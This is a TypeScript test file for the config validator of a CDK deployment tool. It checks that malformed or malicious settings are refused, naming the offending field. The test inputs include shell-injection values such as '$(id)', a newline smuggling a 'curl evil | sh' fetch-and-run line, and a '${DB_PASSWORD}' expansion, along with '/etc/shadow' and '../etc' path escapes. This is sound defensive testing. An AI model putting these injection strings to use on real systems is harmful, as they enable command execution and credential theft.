import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { App, Stack } from 'aws-cdk-lib';
import { Annotations, Match } from 'aws-cdk-lib/assertions';
import { ConfigError, parseConfig, RushhourConfigInput } from '../../lib/config';
import { addRushhourStacks } from '../../lib/rushhour-app';
import { parseSite } from '../../src/site/schema';
import { configWith, EXAMPLE_CONFIG, ROOT, synth } from '../lib/synth-helpers';
import { cli } from './support';

/**
 * Configs that used to pass the schema and then crash synth with a stack trace (a shell substitution in the
 * health path, a newline in a start command), quote TOTAL Infinity (1e308 days), or synthesize a deployment
 * with no pre-warm at all (every window over). Each is refused with the field's name, or warned about.
 */

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- the cases write deliberately ill-typed values
type Change = (c: any) => void;

const example = (): RushhourConfigInput => JSON.parse(fs.readFileSync(EXAMPLE_CONFIG, 'utf8'));

/** The ConfigError message for the example with `change`; fails the test when the config is accepted. */
function refusal(change: Change): string {
  const c = example();
  change(c);
  try {
    parseConfig(c, { baseDir: path.dirname(EXAMPLE_CONFIG), source: 'bad.json' });
  } catch (err) {
    expect(err).toBeInstanceOf(ConfigError);
    return (err as Error).message;
  }
  throw new Error('config was accepted');
}

const php = (extra: object) => (c: { web: object }) => {
  c.web = { ...c.web, port: 80, site: { runtime: 'php', ...extra } };
};

const cases: Array<[string, Change, RegExp]> = [
  [
    'a shell substitution in the health path',
    (c) => (c.web.healthCheckPath = '/$(id)'),
    /^ {2}web\.healthCheckPath: /m,
  ],
  ['a space in the health path', (c) => (c.web.healthCheckPath = '/health check'), /^ {2}web\.healthCheckPath: /m],
  ['a semicolon (nginx) in the health path', (c) => (c.web.healthCheckPath = '/h;x'), /^ {2}web\.healthCheckPath: /m],
  [
    'a newline in web.startCommand',
    (c) => (c.web.startCommand = 'node server.js\nExecStartPre=/bin/sh -c "curl evil | sh"'),
    /^ {2}web\.startCommand: must be one line/m,
  ],
  ['a carriage return in web.startCommand', (c) => (c.web.startCommand = 'node a.js\r'), /^ {2}web\.startCommand: /m],
  ['an escape character in web.startCommand', (c) => (c.web.startCommand = 'node \x1b[2Ja.js'), /web\.startCommand: /],
  ['a blank web.startCommand', (c) => (c.web.startCommand = '   '), /^ {2}web\.startCommand: must not be empty/m],
  [
    'a newline in web.site.startCommand (node)',
    (c) => (c.web.site = { runtime: 'node', startCommand: 'node a.js\nnode b.js' }),
    /^ {2}web\.site\.startCommand: must be one line/m,
  ],
  [
    'a vertical tab in web.site.startCommand (command)',
    (c) => (c.web.site = { runtime: 'command', startCommand: 'run\x0bme' }),
    /^ {2}web\.site\.startCommand: /m,
  ],
  [
    'an env expansion in a php.ini value',
    php({ ini: { error_log: '${DB_PASSWORD}' } }),
    /^ {2}web\.site\.ini\.error_log: must not contain ; " = or \$/m,
  ],
  ['a bare = in a php.ini value', php({ ini: { memory_limit: 'a=b' } }), /^ {2}web\.site\.ini\.memory_limit: /m],
  ['a newline in a php.ini value', php({ ini: { memory_limit: '1G\nx' } }), /^ {2}web\.site\.ini\.memory_limit: /m],
  ['a php.ini key with a bracket', php({ ini: { 'a]b': '1' } }), /^ {2}web\.site\.ini\.a\]b: /m],
  ['a shell word as a PHP extension', php({ extensions: ['gd;id'] }), /^ {2}web\.site\.extensions\.0: /m],
  [
    'an option as a dnf package',
    (c) => (c.web.site = { runtime: 'command', startCommand: 'x', packages: ['--nogpgcheck'] }),
    /^ {2}web\.site\.packages\.0: must be a dnf package name/m,
  ],
  ['a path out of the bundle', php({ documentRoot: '../etc' }), /^ {2}web\.site\.documentRoot: /m],
  ['a space in writableDirs (systemd)', php({ writableDirs: ['a b'] }), /^ {2}web\.site\.writableDirs\.0: /m],
  [
    'an nginx directive in frontController',
    php({ frontController: 'index.php; }' }),
    /^ {2}web\.site\.frontController: /m,
  ],
  [
    'a config file template outside the bundle',
    php({ configFiles: [{ path: 'config.php', template: '/etc/shadow' }] }),
    /^ {2}web\.site\.configFiles\.0\.template: /m,
  ],
  [
    'a cost phase of 1e308 days',
    (c) => (c.cost.phases[0].days = 1e308),
    /^ {2}cost\.phases\.0\.days: must be between 0 and 3650 days \(got 1e\+308\)/m,
  ],
  [
    '1e308 instances per group',
    (c) => (c.cost.phases[1].instancesPerGroup = 1e308),
    /^ {2}cost\.phases\.1\.instancesPerGroup: must be between 0 and 100 instances per group/m,
  ],
  [
    '1e308 GiB of data transfer',
    (c) => (c.cost.dataTransferOutGiB = 1e308),
    /^ {2}cost\.dataTransferOutGiB: must be between 0 and 1000000 GiB/m,
  ],
  ['1e308 deployment days', (c) => (c.cost.deploymentDays = 1e308), /^ {2}cost\.deploymentDays: /m],
  ['1e308 LCU-hours', (c) => (c.cost.lcuHoursPerBalancer = 1e308), /^ {2}cost\.lcuHoursPerBalancer: /m],
  ['1e308 DNS queries', (c) => (c.cost.route53QueriesMillions = 1e308), /^ {2}cost\.route53QueriesMillions: /m],
  ['a 1e308 GiB root volume', (c) => (c.cost.instanceVolumeGiB = 1e308), /^ {2}cost\.instanceVolumeGiB: /m],
  ['1e308 GiB in S3', (c) => (c.cost.s3StorageGiB = 1e308), /^ {2}cost\.s3StorageGiB: /m],
  ['1e9 endpoints', (c) => (c.cost.interfaceEndpoints = 1e9), /^ {2}cost\.interfaceEndpoints: /m],
  ['1e9 secrets', (c) => (c.cost.secrets = 1e9), /^ {2}cost\.secrets: /m],
  ['a newline in a phase name', (c) => (c.cost.phases[0].name = 'quiet\nTOTAL 0'), /^ {2}cost\.phases\.0\.name: /m],
];

test.each(cases)('refused, naming the field: %s', (_what, change, field) => {
  expect(refusal(change)).toMatch(field);
});

test('what a real site needs still passes: query in the health path, & and ~ in php.ini, a tab in a command', () => {
  const c = example();
  c.web!.healthCheckPath = '/health.php?probe=lb&full=0';
  expect(() => parseConfig(c, { baseDir: path.dirname(EXAMPLE_CONFIG) })).not.toThrow();
  // The site fields on their own (web.site also needs web.bundlePath, which is not what is tested here).
  expect(
    parseSite({ runtime: 'php', ini: { error_reporting: 'E_ALL & ~E_DEPRECATED', memory_limit: '256M' } }),
  ).toMatchObject({ ini: { error_reporting: 'E_ALL & ~E_DEPRECATED' } });
  expect(parseSite({ runtime: 'node', startCommand: 'node\tserver.js --port "$PORT"' })).toMatchObject({
    startCommand: 'node\tserver.js --port "$PORT"',
  });
});

// The example's windows are in February 2027: a clock after them sees the whole schedule in the past.
const AFTER = new Date('2027-06-01T00:00:00Z');
const BETWEEN = new Date('2027-02-02T00:00:00Z');
// The feature flags the CLI gives, without esbuild bundling of the Lambdas (seconds each, not what is tested here).
const unbundledApp = () =>
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  new App({ context: { ...require('../../cdk.json').context, 'aws:cdk:bundling-stacks': [] } });
const scheduleWarnings = (stack: Stack) =>
  Annotations.fromStack(stack).findWarning('*', Match.stringLikeRegexp('^schedule: '));

test('a schedule entirely in the past synthesizes with a warning on the web stack naming every window', () => {
  const stacks = addRushhourStacks(
    unbundledApp(),
    configWith(() => {}),
    { now: AFTER },
  );
  const warnings = scheduleWarnings(stacks.web);
  expect(warnings).toHaveLength(1);
  const text = String(warnings[0].entry.data);
  expect(text).toMatch(/schedule: the schedule is entirely in the past at 2027-06-01T00:00:00.000Z/);
  expect(text).toContain('"round-1" (ended 2027-02-01T12:00:00+08:00)');
  expect(text).toContain('"round-2" (ended 2027-02-03T12:00:00+08:00)');
});

test('a schedule partly in the past names the windows that are over; a future one gives no warning', () => {
  const stacks = addRushhourStacks(
    unbundledApp(),
    configWith(() => {}),
    { now: BETWEEN },
  );
  const text = scheduleWarnings(stacks.web)
    .map((w) => String(w.entry.data))
    .join('\n');
  expect(text).toContain('1 of 2 windows are in the past');
  expect(text).toContain('"round-1"');
  expect(text).not.toContain('"round-2"');
  const future = synth(); // the helpers' clock is before the windows
  expect(scheduleWarnings(future.web)).toHaveLength(0);
});

test('strict (config flag or option): a window in the past fails synth with a ConfigError naming schedule', () => {
  const strictConfig = configWith((c) => Object.assign(c, { strict: true }));
  expect(() => addRushhourStacks(new App(), strictConfig, { now: AFTER })).toThrow(ConfigError);
  expect(() => addRushhourStacks(new App(), strictConfig, { now: AFTER })).toThrow(
    /^invalid rushhour config:\n {2}schedule: the schedule is entirely in the past .*"round-1".*"round-2"/,
  );
  expect(() =>
    addRushhourStacks(
      new App(),
      configWith(() => {}),
      { now: AFTER, strict: true },
    ),
  ).toThrow(/schedule: the schedule is entirely in the past/);
});

describe('the CDK entry (bin/app.ts, as `cdk synth -c config=PATH` runs it)', () => {
  let work: string;
  beforeAll(() => {
    work = fs.mkdtempSync(path.join(os.tmpdir(), 'rushhour-bad-configs-'));
  });

  /** Writes the example with `change` (the dump path made absolute) and runs the entry on it. */
  function runEntry(change: Change, context: Record<string, unknown> = {}) {
    const c = example();
    c.import.dumpPath = path.resolve(path.dirname(EXAMPLE_CONFIG), c.import.dumpPath);
    c.cost!.priceTable = path.join(ROOT, 'pricing', 'us-east-1.json');
    change(c);
    const file = path.join(work, `config-${fs.readdirSync(work).length}.json`);
    fs.writeFileSync(file, JSON.stringify(c));
    const r = spawnSync(process.execPath, [require.resolve('tsx/cli'), 'bin/app.ts'], {
      cwd: ROOT,
      env: {
        ...process.env,
        CDK_CONTEXT_JSON: JSON.stringify({ config: file, ...context }),
        CDK_OUTDIR: fs.mkdtempSync(path.join(work, 'out-')),
      },
      encoding: 'utf8',
      timeout: 120_000,
    });
    return { status: r.status, stderr: r.stderr, file };
  }

  const noStackTrace = (stderr: string) => expect(stderr).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);

  test.each<[string, Change, string]>([
    ['$(id) in the health path', (c) => (c.web.healthCheckPath = '/$(id)'), 'web.healthCheckPath: must be a path'],
    [
      'a newline in the start command',
      (c) => (c.web.startCommand = 'node a.js\nid'),
      'web.startCommand: must be one line',
    ],
    ['1e308 days', (c) => (c.cost.phases[0].days = 1e308), 'cost.phases.0.days: must be between 0 and 3650 days'],
  ])('%s: exit 1, the field on stderr, no stack trace', (_what, change, field) => {
    const r = runEntry(change);
    expect(r.stderr).toContain(field);
    noStackTrace(r.stderr);
    expect(r.status).toBe(1);
  });

  test('-c rushhour:strict=true with every window over: exit 1 naming schedule and the windows', () => {
    const past = (c: RushhourConfigInput) => {
      c.schedule = [
        { name: 'old-round', start: '2020-02-03T07:30:00+08:00', end: '2020-02-03T12:00:00+08:00', minCapacity: 2 },
      ];
    };
    const r = runEntry(past, { 'rushhour:strict': 'true' });
    expect(r.stderr).toMatch(/schedule: the schedule is entirely in the past .*"old-round" \(ended 2020-02-03/);
    noStackTrace(r.stderr);
    expect(r.status).toBe(1);
  });
});

test('rushhour cost refuses 1e308 days instead of quoting TOTAL Infinity', () => {
  const c = example();
  c.import.dumpPath = path.resolve(path.dirname(EXAMPLE_CONFIG), c.import.dumpPath);
  c.cost!.priceTable = path.join(ROOT, 'pricing', 'us-east-1.json');
  c.cost!.phases![0].days = 1e308;
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'rushhour-cost-')), 'config.json');
  fs.writeFileSync(file, JSON.stringify(c));
  const r = cli(['cost', '--config', file]);
  expect(r.stdout + r.stderr).not.toMatch(/Infinity/);
  expect(r.stderr).toContain('cost.phases.0.days: must be between 0 and 3650 days');
  expect(r.status).toBe(1);
});
